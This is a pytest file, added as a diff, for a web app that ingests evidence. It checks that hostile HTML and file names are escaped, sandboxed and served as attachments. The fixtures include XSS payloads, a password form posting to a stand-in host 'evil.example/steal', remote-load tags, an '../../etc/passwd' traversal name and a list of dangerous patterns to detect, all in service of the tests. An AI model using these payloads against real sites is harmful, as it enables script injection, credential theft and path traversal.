@@ -1,0 +1,91 @@
+"""Hostile evidence: HTML written to attack the reader, and file names that are markup.
+Nothing of it may run or load in the app's origin."""
+
+from __future__ import annotations
+
+import io
+
+from gavah.pipelines.ingest import Options, ingest_stream
+from tests.web.conftest import ACTOR, Site
+
+HOSTILE_NAME = "<img src=x onerror=alert(1)>.html"
+HOSTILE_HTML = """<!doctype html><html><head><title>FICTIONAL hostile page</title>
+<meta http-equiv="refresh" content="0;url=http://evil.example/">
+<link rel="stylesheet" href="http://evil.example/x.css">
+<style>@import url(http://evil.example/y.css); body{background:url(http://evil.example/t.png)}</style>
+<script>alert('script')</script><base href="http://evil.example/">
+</head><body onload="alert('onload')">
+<h1>Dashtabad FICTIONAL hostile report</h1>
+<p>Visible paragraph with <a href="javascript:alert('js')">a js link</a> and
+<a href="http://evil.example/track">a tracking link</a>.</p>
+<img src="http://evil.example/pixel.png" onerror="alert('img')">
+<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
+<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
+<form action="http://evil.example/steal"><input name="password"></form>
+<div style="background:url(http://evil.example/bg.png)" onclick="alert('click')">
+ gavah تست دشت‌آباد</div>
+</body></html>""".encode()
+DANGEROUS = ("<script", "onerror=", "onload=", "onclick=", "javascript:", "evil.example",
+             "<iframe src=\"http", "<img src=x", "<svg", "<object", "<form action")
+
+
+def _ingest(site: Site) -> int:
+    item, _ = ingest_stream(site.ws, io.BytesIO(HOSTILE_HTML), HOSTILE_NAME,
+                            Options(source="<script>alert('source')</script>",
+                                    tags=["<b>tag</b>"], note="\"><script>alert(2)</script>"),
+                            ACTOR)
+    return item
+
+
+def _assert_inert(html: str) -> None:
+    for needle in DANGEROUS:
+        assert needle not in html, needle
+
+
+def test_hostile_html_and_names_are_inert_everywhere(site: Site) -> None:
+    item = _ingest(site)
+    site.user("ann", "viewer", "public")
+    browser = site.session("ann")
+    for url in ("/", f"/items/{item}", "/search?q=hostile", "/search"):
+        page = browser.get(url)
+        assert page.status_code == 200
+        body = page.text.split("<body", 1)[1]
+        for needle in ("<script>alert", "<img src=x onerror", "<b>tag</b>"):
+            assert needle not in body, (url, needle)
+        assert "&lt;img src=x onerror=alert(1)&gt;.html" in body or url == "/search?q=x"
+
+    preview = browser.get(f"/items/{item}/preview")
+    assert preview.status_code == 200
+    csp = preview.headers["content-security-policy"]
+    assert "sandbox" in csp and "default-src 'none'" in csp and "script-src" not in csp
+    body = preview.text.split("<body", 1)[1]
+    _assert_inert(body)
+    assert "Visible paragraph" in body and "دشت‌آباد" in body
+    item_page = browser.get(f"/items/{item}").text
+    assert '<iframe sandbox src="/items/' in item_page  # sandbox without allow-scripts
+    assert "allow-scripts" not in item_page
+
+
+def test_hostile_downloads_are_attachments(site: Site) -> None:
+    item = _ingest(site)
+    site.user("ann", "viewer", "public")
+    download = site.session("ann").get(f"/items/{item}/original")
+    assert download.headers["content-type"] == "application/octet-stream"
+    disposition = download.headers["content-disposition"]
+    assert disposition.startswith('attachment; filename="_img src_x onerror_alert_1__.html"')
+    assert "filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E.html" in disposition
+    assert download.headers["x-content-type-options"] == "nosniff"
+    assert download.content == HOSTILE_HTML
+
+
+def test_hostile_upload_names_through_the_form(site: Site) -> None:
+    site.user("ivy", "investigator", "public")
+    browser = site.session("ivy")
+    from tests.web.conftest import csrf_of
+
+    sent = browser.post("/upload", data={"csrf_token": csrf_of(browser, "/upload")},
+                        files=[("files", ('"><svg onload=alert(1)>.txt', b"x", "text/plain")),
+                               ("files", ("../../etc/passwd", b"y", "text/plain"))])
+    assert sent.status_code == 200
+    assert "<svg onload" not in sent.text and "&lt;svg onload=alert(1)&gt;.txt" in sent.text
+    assert ">passwd</a>" in sent.text  # the name is its last part; the path is kept apart
